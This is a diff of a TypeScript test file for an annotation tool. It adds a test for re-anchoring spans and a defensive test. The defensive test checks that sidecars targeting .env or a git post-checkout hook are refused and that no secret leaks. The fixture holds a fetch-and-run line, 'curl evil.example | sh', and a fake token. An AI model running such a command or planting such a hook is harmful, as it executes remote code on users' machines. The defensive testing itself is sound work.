@@ -4,7 +4,7 @@
 import * as assert from 'node:assert/strict';
 import { createAnnotation } from '../../../src/core/model';
 import type { Annotation } from '../../../src/core/model';
-import { CorpusFolder, DEFAULT_INCLUDE, FolderError, ReadOnlyError, serializeSidecar, sidecarPathFor, type Logger } from '../../../src/core/store';
+import { AnnotationStore, CorpusFolder, DEFAULT_INCLUDE, FolderError, NotCorpusError, ReadOnlyError, serializeSidecar, sidecarPathFor, type Logger } from '../../../src/core/store';
 import { MemoryFs } from '../../support/memoryFs';
 
 const CLAIM = { name: 'claim' };
@@ -177,6 +177,52 @@ describe('CorpusFolder: the life of a workspace folder', () => {
     await h.folder.restoreDocument('a.txt');
     assert.equal(h.fs.text('a.txt'), TEXT);
     assert.deepEqual(h.folder.corpus, ['a.txt']);
+  });
+
+  it('opening a document re-anchors a stored span that cuts a surrogate pair or whose end disagrees with its quote (a hand edit, a merge)', async () => {
+    const text = 'Before 😀 the claim here, and a second claim there.';
+    const split = claim('e.txt', text, '😀 the claim');
+    const cut = { ...split, target: { start: split.target.start + 1, end: split.target.end, quote: { ...split.target.quote, exact: split.target.quote.exact.slice(1) } } };
+    const wrong = claim('e.txt', text, 'second claim');
+    const longer = { ...wrong, target: { ...wrong.target, end: wrong.target.end + 4 } };
+    const h = harness({ 'e.txt': text, [sidecarPathFor('e.txt')]: serializeSidecar('e.txt', [cut, longer]) });
+    await h.folder.load();
+    await h.folder.open('e.txt', text);
+    const live = h.folder.liveDocument('e.txt');
+    assert.ok(live);
+    assert.deepEqual([split.target.start, split.target.end], [live.get(split.id)?.target.start, live.get(split.id)?.target.end], 'widened to the whole emoji');
+    assert.equal(live.get(split.id)?.target.quote.exact, '😀 the claim');
+    assert.equal(live.get(wrong.id)?.target.end, wrong.target.end, 'the end follows the quote');
+    const saved = h.fs.text(sidecarPathFor('e.txt')) ?? '';
+    assert.ok(saved.includes(`start: ${split.target.start}\n`) && saved.includes(`end: ${wrong.target.end}\n`), 'the repair is saved');
+  });
+
+  it('a committed sidecar naming .env or .git/hooks/post-checkout is reported, never read, re-anchored, restored or tagged', async () => {
+    const secret = 'TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789\n';
+    const hook = '#!/bin/sh\ncurl evil.example | sh\n';
+    const onEnv = { ...claim('.env', secret.replace('ghp', 'old'), 'TOKEN'), doc: '.env' };
+    const onHook = { ...claim('.git/hooks/post-checkout', hook, 'curl'), doc: '.git/hooks/post-checkout' };
+    const files = {
+      'a.txt': TEXT,
+      '.env': secret,
+      [sidecarPathFor('.env')]: serializeSidecar('.env', [onEnv]),
+      [sidecarPathFor('.git/hooks/post-checkout')]: serializeSidecar('.git/hooks/post-checkout', [onHook]),
+    };
+    const h = harness(files);
+    await new AnnotationStore(h.fs).putSnapshot(hook);
+    await h.folder.load();
+    assert.deepEqual(h.folder.errors.map((e) => e.file).sort(), [sidecarPathFor('.env'), sidecarPathFor('.git/hooks/post-checkout')].sort());
+    assert.match(h.folder.errors[0].message, /is not a corpus document .*; its annotations are left as they are$/);
+    assert.deepEqual(h.folder.documents(), ['a.txt'], 'neither is listed, not even as a missing document');
+    await h.folder.checkClosedDocuments();
+    await h.folder.sidecarChanged('.env');
+    await h.folder.open('.env', secret);
+    assert.equal(h.folder.liveDocument('.env'), undefined);
+    await assert.rejects(h.folder.restoreDocument('.git/hooks/post-checkout'), (e: Error) => e instanceof NotCorpusError);
+    await assert.rejects(h.folder.add('.env', [{ ...claim('.env', secret, 'TOKEN'), doc: '.env' }], secret), (e: Error) => e instanceof NotCorpusError);
+    assert.equal(h.fs.text('.git/hooks/post-checkout'), undefined, 'no hook written');
+    for (const [file, text] of Object.entries(files)) assert.equal(h.fs.text(file), text, `${file} unchanged`);
+    assert.ok(![...h.fs.files.keys()].some((f) => f.startsWith('.marginalia/') && h.fs.text(f)?.includes('ghp_')), 'the secret is in no store file');
   });
 
   it('a document over the size limit is listed but declined, with why', async () => {
